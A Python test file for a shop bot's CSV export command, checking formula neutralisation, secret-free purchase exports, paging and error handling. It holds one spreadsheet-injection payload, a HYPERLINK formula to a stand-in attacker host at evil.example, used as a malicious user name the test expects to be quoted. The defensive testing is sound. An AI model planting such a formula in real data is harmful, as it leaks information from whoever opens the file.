"""`shopkeeper export`: the operator's CSV files, on SQLite and PostgreSQL, through the installed command."""

import csv
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from actors.csv_export import cell_text
from storage import PaymentEvent, PaymentRecord, PurchaseRequest, StorageSettings, Store, open_store
from tests.support.processes import shopkeeper
from tests.support.shop import storage_section

OWNER = 42
MALLORY = 2001
ANN = 2002
FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'
SECRETS = ("SECRET-KEY-1", "SECRET-KEY-2", "UNLIMITED-SECRET")


async def seed(store: Store) -> None:
    """Two buyers; Mallory buys a key and a guide in one batch (one created_at for both), Ann tops up
    with Stars, and the staff take money back with a reason that starts like a formula."""
    await store.register_user(MALLORY, username=None, first_name=FORMULA, language_code="en", owner_id=OWNER)
    await store.register_user(ANN, username="ann", first_name="Ann", language_code="de", owner_id=OWNER)
    await store.set_language(ANN, "ru")
    await store.credit_user(MALLORY, Decimal("20.00"), kind="topup", reason="cash")
    await store.add_category("Keys")
    key = await store.add_item("Keys", "Starfall", Decimal("3.00"))
    await store.add_stock("Starfall", ["SECRET-KEY-1", "SECRET-KEY-2"])
    guide = await store.add_item("Keys", "Guide", Decimal("1.50"), kind="unlimited", content="UNLIMITED-SECRET")
    await store.buy([
        PurchaseRequest(key="buy-1", user_id=MALLORY, item_id=key.id, quantity=2),
        PurchaseRequest(key="buy-2", user_id=MALLORY, item_id=guide.id),
    ])
    await store.credit_user(MALLORY, Decimal("-10.00"), kind="adjustment", reason="-10 taken back by hand")
    order = await store.open_order(ANN, "stars", Decimal("5.00"), currency="XTR", provider_amount=500, ttl=timedelta(minutes=30))
    assert isinstance(order, PaymentRecord)
    await store.settle_payment(PaymentEvent(
        method="stars", order_id=order.id, external_id="charge-1", currency="XTR", provider_amount=500, provider_charge_id=None,
    ))


@pytest.fixture
async def shop(tmp_path: Path, database_url: str) -> Path:
    """A seeded shop and a config that points at it; returns the working directory."""
    async with open_store(StorageSettings(database_url=database_url)) as store:
        await seed(store)
    (tmp_path / "shop.toml").write_text(storage_section(database_url))
    return tmp_path


def export(cwd: Path, *args: str) -> tuple[int, str, str]:
    result = shopkeeper("--config", str(cwd / "shop.toml"), "export", *args, cwd=cwd)
    return result.returncode, result.stdout.strip(), result.stderr.strip()


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


async def test_users_come_out_with_formulas_neutralised(shop: Path) -> None:
    assert export(shop, "users", "--out", "users.csv") == (0, "exported 2 users to users.csv", "")
    assert (shop / "users.csv").read_text(encoding="utf-8").splitlines()[0] == (
        "id,username,first_name,language,role,balance,blocked,created_at"
    )
    mallory, ann = read(shop / "users.csv")
    assert mallory["first_name"] == "'" + FORMULA
    assert (mallory["id"], mallory["username"], mallory["language"], mallory["balance"], mallory["blocked"]) == (
        str(MALLORY), "", "en", "2.50", "false",
    )
    assert (ann["username"], ann["first_name"], ann["language"], ann["balance"], ann["role"]) == ("ann", "Ann", "ru", "5.00", "user")
    assert datetime.fromisoformat(ann["created_at"]).utcoffset() == timedelta(0)


async def test_the_ledger_keeps_its_debits_as_numbers(shop: Path) -> None:
    assert export(shop, "ledger", "--out", "ledger.csv")[:2] == (0, "exported 5 ledger entries to ledger.csv")
    rows = read(shop / "ledger.csv")
    assert list(rows[0]) == ["id", "user_id", "amount", "kind", "reason", "purchase_id", "created_at"]
    assert [(row["kind"], row["amount"]) for row in rows] == [
        ("topup", "20.00"), ("purchase", "-6.00"), ("purchase", "-1.50"), ("adjustment", "-10.00"), ("topup", "5.00"),
    ]
    assert sum(Decimal(row["amount"]) for row in rows if row["user_id"] == str(MALLORY)) == Decimal("2.50")
    assert rows[3]["reason"] == "'-10 taken back by hand" and rows[3]["purchase_id"] == ""
    assert rows[1]["purchase_id"] and rows[1]["reason"] == "Starfall"


async def test_purchases_and_payments_leave_the_secrets_out(shop: Path) -> None:
    assert export(shop, "purchases", "--out", "purchases.csv")[:2] == (0, "exported 2 purchases to purchases.csv")
    text = (shop / "purchases.csv").read_text(encoding="utf-8")
    assert not any(secret in text for secret in SECRETS)
    rows = read(shop / "purchases.csv")
    assert list(rows[0]) == [
        "id", "user_id", "item_id", "item_title", "kind", "quantity", "price", "discount", "total", "revoked_at", "created_at",
    ]
    assert sorted((r["item_title"], r["kind"], r["quantity"], r["price"], r["discount"], r["total"], r["revoked_at"]) for r in rows) == [
        ("Guide", "unlimited", "1", "1.50", "0.00", "1.50", ""), ("Starfall", "unique", "2", "3.00", "0.00", "6.00", ""),
    ]

    assert export(shop, "payments", "--out", "payments.csv")[:2] == (0, "exported 1 payments to payments.csv")
    [payment] = read(shop / "payments.csv")
    assert list(payment) == [
        "id", "user_id", "method", "status", "amount", "currency", "provider_amount", "external_id", "provider_charge_id",
        "created_at", "paid_at", "refunded_at",
    ]
    assert (payment["user_id"], payment["method"], payment["status"], payment["amount"], payment["currency"]) == (
        str(ANN), "stars", "paid", "5.00", "XTR",
    )
    assert (payment["provider_amount"], payment["external_id"], payment["refunded_at"]) == ("500", "charge-1", "")
    assert datetime.fromisoformat(payment["paid_at"]) >= datetime.fromisoformat(payment["created_at"])


async def test_pages_cover_every_row_once_in_order(database_url: str) -> None:
    """Pages of one row, across purchases that share a created_at, read what one page reads."""
    async with open_store(StorageSettings(database_url=database_url)) as store:
        await seed(store)
        for table in ("users", "purchases", "payments", "ledger"):
            whole = await store.export_page(table, None, 100)
            assert whole.next is None
            rows, page = [], await store.export_page(table, None, 1)
            rows += page.rows
            while page.next is not None:
                page = await store.export_page(table, page.next, 1)
                rows += page.rows
            assert rows == whole.rows, table


async def test_bad_arguments_name_the_argument_and_write_nothing(shop: Path) -> None:
    code, out, error = export(shop, "orders", "--out", "orders.csv")
    assert (code, out, error) == (2, "", "error: TABLE: unknown table 'orders': use users, purchases, payments, ledger")
    code, out, error = export(shop, "users", "--out", str(shop / "missing" / "users.csv"))
    assert (code, out) == (2, "") and error.startswith("error: --out: cannot write ") and len(error.splitlines()) == 1
    assert [p.name for p in shop.rglob("*") if ".csv" in p.name] == []


async def test_a_failed_export_leaves_the_old_file(tmp_path: Path) -> None:
    (tmp_path / "shop.toml").write_text('[storage]\ndatabase_url = "postgres://postgres@127.0.0.1:1/nowhere"\n')
    (tmp_path / "users.csv").write_text("the export of yesterday\n")
    code, out, error = export(tmp_path, "users", "--out", "users.csv")
    assert code == 1 and out == "" and len(error.splitlines()) == 1
    assert (tmp_path / "users.csv").read_text() == "the export of yesterday\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["shop.toml", "users.csv"]


def test_only_text_that_starts_like_a_formula_is_quoted() -> None:
    cells = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", "", Decimal("-10.00"), -5, None, True]
    assert [cell_text(cell) for cell in cells] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "-10.00", "-5", "", "true",
    ]
